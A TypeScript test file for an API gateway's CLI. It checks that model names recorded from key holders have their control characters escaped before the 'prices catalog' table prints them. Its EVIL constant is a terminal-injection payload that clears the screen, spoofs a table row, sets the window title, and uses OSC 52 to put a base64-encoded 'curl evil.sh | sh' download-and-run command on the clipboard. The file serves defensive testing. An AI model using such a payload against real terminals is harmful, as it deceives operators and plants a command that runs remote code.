/**
 * A name any key holder chooses must not reach the operator's terminal raw. With the default require-pricing,
 * a key holder asking for an unpriced model of a configured provider has its name recorded (GET
 * /v1/pricing/unpriced), and `tollgate prices catalog` prints it as a table cell. A name with a control
 * character is refused as no model at all now (404), but one recorded before that is still printed: its control characters
 * (an ESC sequence that clears the screen, rewrites lines of the table, sets the window title or writes the
 * clipboard with OSC 52) are printed escaped. Alert text puts such names in code spans (src/alerts/code-span.ts) and logs
 * are JSON.
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { startMockProvider, type MockProvider } from './support/mock-provider'
import { startTestGateway, type TestGateway } from './support/gateway'
import { tollgateOutput } from './support/cli'

let mock: MockProvider
let gw: TestGateway

beforeAll(async () => {
  mock = startMockProvider()
  gw = await startTestGateway({ mock })
})
afterAll(async () => {
  await gw.stop()
  await mock.stop()
})

const tollgate = (args: string[]) => tollgateOutput(gw.url, args)

// Clear the screen, home the cursor, set the title, and put text on the operator's clipboard.
const EVIL = 'mock:x\u001b[2J\u001b[H\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\rmock:gpt-4o  unchanged'

describe('tollgate prices catalog with a model name a key holder chose', () => {
  test('the table carries no control character from it', async () => {
    const { secret } = await gw.userWithKey({ id: 'f-escape' })
    const refused = await fetch(`${gw.url}/v1/chat/completions`, {
      method: 'POST',
      headers: { authorization: `Bearer ${secret}`, 'content-type': 'application/json' },
      body: JSON.stringify({ model: EVIL, messages: [{ role: 'user', content: 'hi' }] }),
    })
    // A model name with a control character is no model (404, not recorded) since such names are refused; one
    // recorded before that (or written behind the gateway's back) must still not reach the terminal raw.
    expect(refused.status).toBe(404)
    gw.exec('INSERT INTO unpriced_models (model, requests, first_seen_at, last_seen_at) VALUES (?, 1, ?, ?)', EVIL, Date.now(), Date.now())
    const unpriced = await gw.admin('GET', '/v1/pricing/unpriced')
    expect(unpriced.body.data.map((r: { model: string }) => r.model)).toContain(EVIL)

    const out = await tollgate(['prices', 'catalog'])
    // Nothing but tab and newline below 0x20, and no DEL / C1 controls.
    const controls = [...out].filter((c) => (c < ' ' && c !== '\n' && c !== '\t') || (c >= '\u007f' && c <= '\u009f')).map((c) => c.charCodeAt(0))
    expect(controls).toEqual([])
  })
})
